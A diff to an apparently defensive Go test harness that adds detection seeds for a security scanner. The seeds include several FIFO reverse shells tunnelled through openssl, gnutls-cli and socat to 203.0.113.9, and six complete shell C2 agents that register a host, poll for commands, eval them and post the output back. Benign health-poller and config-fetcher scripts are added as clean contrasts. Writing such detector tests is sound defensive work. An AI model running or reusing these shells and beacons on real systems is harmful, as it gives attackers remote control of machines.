@@ -39,6 +39,10 @@ var techniqueSeeds = []stealthSeed{
 	{"fifo-relay", RuleFifo, audit.Critical, "", "H=203.0.113.9\nP=443\nD=/var/tmp/.d\nmkfifo $D\nsh -i < $D 2>&1 |\n  openssl s_client -quiet \\\n    -connect $H:$P > $D"},
 	{"fifo-relay", RuleFifo, audit.Critical, "", "relay() {\n  mkfifo \"$1\"\n  /bin/sh -i < \"$1\" 2>&1 | openssl s_client -quiet -connect \"$2\" > \"$1\"\n}\nrelay /tmp/.r 203.0.113.9:443"},
 	{"fifo-relay", RuleFifo, audit.Critical, "", "mknod /tmp/b p && openssl s_client -quiet -connect 203.0.113.9:443 0</tmp/b | /bin/bash 1>/tmp/b 2>&1"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.v; openssl s_server -quiet -accept 8443 -key k.pem -cert c.pem < /tmp/.v | /bin/sh -i > /tmp/.v 2>&1"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.g; gnutls-cli --insecure -p 443 203.0.113.9 < /tmp/.g | bash -i > /tmp/.g 2>&1"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.z; sh -i < /tmp/.z 2>&1 | socat STDIO OPENSSL-CONNECT:203.0.113.9:443,verify=0 > /tmp/.z"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "exec 3<>/dev/null\nF=/run/user/0/.f\nmkfifo -m 600 \"$F\"\ntls() { openssl s_client -quiet -connect \"$1\" 2>/dev/null; }\nsh -i < \"$F\" 2>&1 | tls 203.0.113.9:443 > \"$F\""},
 	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/t; cat /tmp/t | sh -i 2>&1 | openssl s_client -quiet -host 203.0.113.9 -port 443 > /tmp/t"},
 
 	// Every user's credentials gathered into an archive or a place aside, nothing sent.
@@ -84,6 +88,14 @@ var techniqueSeeds = []stealthSeed{
 	{"timestomp-blanket", RuleTimestomp, audit.High, "", "find /opt -type f -exec touch -t 202101010000 {} \\;"},
 	{"timestomp-blanket", RuleTimestomp, audit.High, "", "curl -so /tmp/.x/agent http://203.0.113.9/a\ntouch -r /bin/ls /tmp/.x/agent"},
 	{"timestomp-blanket", RuleTimestomp, audit.High, "", "cp ./k /var/tmp/.cache/kd\nfor f in /var/tmp/.cache/kd; do touch --reference=/usr/bin/env \"$f\"; done"},
+
+	// Polling agents with register, poll, run and report in functions of their own.
+	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "C2=http://203.0.113.9/api\nreg() { curl -s -d \"h=$(hostname)&id=$(id -u)\" $C2/reg; }\npoll() { curl -s $C2/task; }\nsend() { curl -s -d \"$1\" $C2/res; }\nreg\nwhile true; do\n  t=$(poll)\n  [ -n \"$t\" ] && send \"$(eval \"$t\" 2>&1)\"\n  sleep $((RANDOM % 30 + 10))\ndone"},
+	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "BASE='https://203.0.113.9:8443'\nID=''\nregister() {\n  ID=$(curl -sk -X POST -d \"host=$(hostname)&user=$(whoami)\" \"$BASE/register\")\n}\nfetch_task() {\n  curl -sk \"$BASE/tasks/$ID\"\n}\nrun_task() {\n  bash -c \"$1\" 2>&1\n}\nreport() {\n  curl -sk -X POST --data-binary @- \"$BASE/results/$ID\"\n}\nregister\nwhile :; do\n  task=$(fetch_task)\n  if [ -n \"$task\" ]; then\n    run_task \"$task\" | report\n  fi\n  sleep $(( (RANDOM % 20) + 5 ))\ndone"},
+	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "U=http://203.0.113.9/b\nget() { wget -qO- \"$U/$1\"; }\nput() { wget -qO- --post-data=\"$2\" \"$U/$1\" >/dev/null; }\nexecute() { out=$(sh -c \"$1\" 2>&1); echo \"$out\"; }\nput hello \"$(uname -a)\"\nfor ((;;)); do\n  c=$(get cmd)\n  [ -z \"$c\" ] || put out \"$(execute \"$c\")\"\n  sleep 15\ndone"},
+	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "H=203.0.113.9; P=8080; PROTO=http\nurl() { echo \"$PROTO://$H:$P/$1\"; }\npoll() { curl -s \"$(url q)\"; }\nrun() { $1 > /tmp/.o 2>&1; }\nupload() { curl -s -F \"f=@/tmp/.o\" \"$(url u)\"; }\ntick() { local c; c=$(poll); [ -n \"$c\" ] || return; run \"$c\"; upload; }\nwhile sleep $((5 + RANDOM % 7)); do tick; done"},
+	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "api=http://203.0.113.9/v1\nnext_job() { curl -s \"$api/job\" -o /tmp/.j; }\ndo_job() { bash /tmp/.j > /tmp/.r 2>&1; }\nsend_back() { curl -s --data-binary @/tmp/.r \"$api/done\"; }\nloop() {\n  while true; do\n    next_job && do_job && send_back\n    sleep 20\n  done\n}\ncurl -s -d \"n=$(hostname)\" \"$api/hi\"\nloop &"},
+	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "srv=203.0.113.9\nbeacon() {\n  local r\n  r=$(curl -s \"http://$srv/b?i=$(cat /etc/machine-id)\")\n  echo \"$r\"\n}\nhandle() {\n  local res\n  res=$(eval \"$1\" 2>&1 | base64 -w0)\n  curl -s -d \"r=$res\" \"http://$srv/r\"\n}\nmain() {\n  while true; do\n    cmd=$(beacon)\n    test -n \"$cmd\" && handle \"$cmd\"\n    sleep $(shuf -i 10-60 -n 1)\n  done\n}\nmain"},
 }
 
 // Clean shapes: the same tools and places, the way clean software uses them.
@@ -104,6 +116,8 @@ var techniqueClean = []struct{ name, path, text string }{
 	{"own log trimmed", "/usr/local/bin/trim.sh", "#!/bin/sh\ntail -n 1000 /var/log/app/app.log > /var/log/app/app.log.tmp\nmv /var/log/app/app.log.tmp /var/log/app/app.log\n"},
 	{"build tree dated", "/build/pkg/stamp.sh", "#!/bin/sh\nfind . -type f -exec touch -d @$SOURCE_DATE_EPOCH {} +\nfind build -newer build/stamp -exec touch -r configure.ac {} +\n"},
 	{"own history", "/usr/local/bin/clean-me.sh", "#!/bin/sh\nrm -f ~/.bash_history\nfind /tmp -name '*.tmp' -delete\n"},
+	{"health poller", "/usr/local/bin/health.sh", "#!/bin/sh\ncheck() { curl -sf http://127.0.0.1:8080/health; }\nreport() { curl -s -d \"status=$1\" https://monitor.example.com/api/status; }\nwhile true; do\n  if check >/dev/null; then report up; else report down; fi\n  sleep 30\ndone\n"},
+	{"config fetcher", "/usr/local/bin/sync-conf.sh", "#!/bin/sh\nfetch() { curl -s https://config.example.com/app.conf -o /etc/app/app.conf; }\nwhile :; do\n  fetch && systemctl reload app\n  sleep 300\ndone\n"},
 }
 
 func TestTechniqueHarness(t *testing.T) {
